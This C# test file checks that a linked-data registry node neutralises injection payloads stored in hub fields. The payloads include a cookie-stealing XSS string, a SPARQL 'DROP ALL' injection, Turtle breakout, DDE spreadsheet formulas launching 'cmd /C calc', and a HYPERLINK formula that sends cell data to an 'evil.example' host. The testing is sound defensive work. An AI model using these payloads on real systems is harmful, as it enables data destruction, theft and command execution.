using System.Net;
using DihNode.Node.Registry;
using DihNode.Node.Tests.Server;
using DihNode.Rdf.Io;
using DihNode.Rdf.Model;
using DihNode.Rdf.Sparql.Results;
using DihNode.Vocab.Csv;
using DihNode.Vocab.Profile;
using Microsoft.EntityFrameworkCore;
using Xunit.Abstractions;

namespace DihNode.Reliability.Tests.Security;

/// <summary>
/// Issue 11 item 8: hub fields holding SPARQL, HTML, script and spreadsheet-formula payloads, written
/// through the registry, come back as the same plain text in SPARQL results and RDF, encoded in the hub
/// page, and neutralised in the CSV dump.
/// </summary>
public sealed class InjectionTests(NodeFixture node, ITestOutputHelper output) : IClassFixture<NodeFixture>
{
    private const string Html = "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>";
    private const string Sparql = "\" } ; DROP ALL ; INSERT DATA { <http://evil/s> <http://evil/p> \"x\" } #";
    private const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    private const string Dde = "+cmd|' /C calc'!A0";
    private const string At = "@SUM(1+1)*cmd|' /C calc'!A0";
    private const string Minus = "-2+3+cmd|' /C calc'!A0";
    private const string Turtle = "\"\"\" . <http://evil/s> <http://evil/p> <http://evil/o> . # \n\r\t\\u0022";

    private async Task<(HubRecord Record, string Path)> WritePayloadHub()
    {
        HubRecord template;
        using (var context = node.Store.NewContext())
            template = HubMapping.ToRecord(HubRegistry.LoadHubs(context).AsNoTracking().First());
        var record = template with
        {
            Source = "csv",
            Key = "injection-test",
            Iri = null,
            SourceRecord = "1",
            Name = Html,
            Title = Sparql,
            Description = Turtle,
            Street = Dde,
            City = At,
            PostCode = Minus,
            FullAddress = Formula,
            Website = "javascript:alert(1)",
            Topics = [],
        };
        await node.Store.Registry.UpsertAsync(record);
        string iri = node.Store.Iris.Hub("csv", "injection-test").Value;
        return (record, iri[node.Store.Iris.Base.Length..].TrimStart('/'));
    }

    [Fact]
    public async Task PayloadsArePlainTextEverywhere()
    {
        var (record, path) = await WritePayloadHub();
        string iri = node.Store.Iris.Hub("csv", "injection-test").Value;
        output.WriteLine("hub at /" + path);

        // SPARQL: the literals are exactly the payloads; the "injected" statements do not exist.
        using var response = await node.Client.GetAsync(Support.LimitedNode.Sparql($"SELECT ?o WHERE {{ <{iri}> ?p ?o FILTER(isLiteral(?o)) }}", "&format=json"));
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var result = SparqlResultReader.Read(await response.Content.ReadAsStreamAsync(), SparqlResultFormat.Json, "results");
        var literals = result.Rows.Select(r => ((Literal)r[0]!).LexicalForm).ToHashSet();
        foreach (string payload in new[] { Html, Sparql, Turtle })
            Assert.Contains(payload, literals);
        using var evil = await node.Client.GetAsync(Support.LimitedNode.Sparql("ASK { { <http://evil/s> ?p ?o } UNION { ?s ?p <http://evil/o> } }", "&format=json"));
        Assert.Contains("false", await evil.Content.ReadAsStringAsync());

        // RDF: the Turtle and N-Triples of the hub parse back to the same literals.
        foreach (var (extension, format) in new[] { (".ttl", RdfFormat.Turtle), (".nt", RdfFormat.NTriples), (".rdf", RdfFormat.RdfXml), (".jsonld", RdfFormat.JsonLd) })
        {
            byte[] bytes = await node.Client.GetByteArrayAsync(path + extension);
            var sink = new List<Quad>();
            RdfParser.Parse(bytes, format, new ListSink(sink), new RdfParserOptions { BaseIri = iri });
            var texts = sink.Select(q => q.Object).OfType<Literal>().Select(l => l.LexicalForm).ToHashSet();
            Assert.Contains(Html, texts);
            Assert.Contains(Turtle, texts);
            Assert.DoesNotContain(sink, q => q.Subject.ToString().Contains("evil", StringComparison.Ordinal));
        }

        // HTML: every payload encoded, no live markup, no javascript: link.
        var page = new HttpRequestMessage(HttpMethod.Get, path);
        page.Headers.Accept.ParseAdd("text/html");
        string html = await (await node.Client.SendAsync(page)).Content.ReadAsStringAsync();
        Assert.DoesNotContain("<script>alert", html);
        Assert.DoesNotContain("<img src=x", html);
        Assert.DoesNotContain("href=\"javascript:", html, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("&lt;script&gt;alert(document.cookie)&lt;/script&gt;", html);

        // CSV: cells that a spreadsheet would run start with a quote; the others are unchanged text.
        var records = new CsvReader().Read(await (await node.Client.GetAsync("dump/hubs.csv")).Content.ReadAsStreamAsync());
        var row = records.Single(r => r.Fields.Contains(iri)).Fields;
        output.WriteLine("CSV row: " + string.Join(" | ", row));
        Assert.Equal(Html, row[1]);
        Assert.Equal("'" + Dde, row[5]);
        Assert.Equal("'" + Minus, row[6]);
        Assert.Equal("'" + At, row[7]);
        Assert.Equal(Turtle, row[9]);
        Assert.DoesNotContain(row, cell => cell.Length > 0 && "=+-@".Contains(cell[0], StringComparison.Ordinal));
        _ = record;
    }

    private sealed class ListSink(List<Quad> quads) : IQuadSink
    {
        public void Add(in Quad quad) => quads.Add(quad);
    }
}
